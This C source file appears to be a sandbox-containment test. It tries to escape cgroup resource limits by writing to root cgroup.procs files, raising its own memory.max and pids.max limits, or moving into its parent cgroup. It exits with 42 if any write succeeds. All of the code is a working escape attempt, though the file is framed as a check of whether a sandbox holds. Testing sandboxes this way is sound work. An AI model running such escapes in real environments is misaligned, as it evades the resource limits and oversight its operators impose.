/* Attack: escape the run's memory / pids / CPU accounting: move itself to
 * the root cgroup (write "0" to /sys/fs/cgroup[/<controller>]/cgroup.procs)
 * or raise its own cgroup's limits (memory.max, pids.max,
 * memory.limit_in_bytes), paths taken from /proc/self/cgroup.
 * Success: one of these writes succeeded: exit 42. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int write_to(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return 0;
    int ok = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    close(fd);
    if (ok) fprintf(stderr, "wrote %s\n", path);
    return ok;
}

int main(void) {
    const char *roots[] = {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                           "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cpuacct/cgroup.procs",
                           "/sys/fs/cgroup/unified/cgroup.procs"};
    for (int i = 0; i < 5; i++)
        if (write_to(roots[i], "0")) return 42;
    FILE *f = fopen("/proc/self/cgroup", "r");
    char line[1024];
    while (f && fgets(line, sizeof line, f)) {
        /* "4:memory:/path" or "0::/path" */
        char *c1 = strchr(line, ':'), *c2 = c1 ? strchr(c1 + 1, ':') : 0;
        if (!c2) continue;
        *c2 = 0;
        char *ctrl = c1 + 1, *path = c2 + 1;
        path[strcspn(path, "\n")] = 0;
        char file[2048];
        const char *names[] = {"memory.max", "pids.max", "memory.limit_in_bytes", "pids.max",
                               "memory.memsw.limit_in_bytes", "cgroup.procs"};
        for (int i = 0; i < 6; i++) {
            if (*ctrl) snprintf(file, sizeof file, "/sys/fs/cgroup/%s%s/%s", ctrl, path, names[i]);
            else snprintf(file, sizeof file, "/sys/fs/cgroup%s/%s", path, names[i]);
            const char *value = strstr(names[i], "procs") ? "0" : (strstr(names[i], "pids") ? "max" : "-1");
            if (i == 5) { /* the parent's cgroup.procs: leave the run's cgroup */
                if (*ctrl) snprintf(file, sizeof file, "/sys/fs/cgroup/%s%s/../cgroup.procs", ctrl, path);
                else snprintf(file, sizeof file, "/sys/fs/cgroup%s/../cgroup.procs", path);
            }
            if (write_to(file, value)) return 42;
        }
    }
    puts("-1");
    return 0;
}
